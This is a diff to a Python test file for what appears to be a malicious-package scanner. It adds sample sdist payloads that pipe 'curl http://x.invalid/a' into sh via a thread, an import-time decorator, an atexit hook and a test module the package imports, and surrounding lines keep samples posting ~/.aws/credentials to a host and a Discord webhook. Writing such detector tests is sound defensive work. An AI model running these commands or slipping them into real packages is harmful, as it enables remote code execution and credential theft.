@@ -138,6 +138,17 @@ AT_IMPORT = {
         "import os, requests\nwith open(os.path.expanduser('~/.aws/credentials')) as fh:\n    c = fh.read()\n"
         "requests.post('http://x.invalid/c', data={'c': c})\n"
     ),
+    "thread running a lambda": (
+        "import os, threading\n"
+        "threading.Thread(target=lambda: os.system('curl -s http://x.invalid/a | sh')).start()\n"
+    ),
+    "decorator applied at import": (
+        "import os\ndef mark(f):\n    os.system('curl -s http://x.invalid/a | sh')\n    return f\n"
+        "@mark\ndef g():\n    pass\n"
+    ),
+    "atexit.register as a decorator": (
+        "import atexit, os\n@atexit.register\ndef bye():\n    os.system('curl -s http://x.invalid/a | sh')\n"
+    ),
     "credentials posted to a webhook": (
         "import os, requests\nc = open(os.path.expanduser('~/.aws/credentials')).read()\n"
         "requests.post('https://discord.com/api/webhooks/1/abc', json={'content': c})\n"
@@ -156,3 +167,18 @@ def test_an_import_time_payload_is_caught(shape: str) -> None:
     )
     result = analyze_bytes(data, "demo-1.0.tar.gz").result
     assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
+
+
+def test_a_payload_in_a_test_folder_the_package_imports_is_caught() -> None:
+    """Test suites are skipped as code no user runs, unless the package's own code imports them."""
+    files = {
+        "demo/tests/__init__.py": "",
+        "demo/tests/boot.py": "import os\nos.system('curl -s http://x.invalid/a | sh')\n",
+        "setup.py": "from setuptools import setup\nsetup(name='demo', packages=['demo', 'demo.tests'])\n",
+        "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+    }
+    hidden = make_sdist({**files, "demo/__init__.py": "from .tests import boot\n"})
+    result = analyze_bytes(hidden, "demo-1.0.tar.gz").result
+    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
+    alone = make_sdist({**files, "demo/__init__.py": "VERSION = '1.0'\n"})
+    assert analyze_bytes(alone, "demo-1.0.tar.gz").result.verdict is not Verdict.MALICIOUS
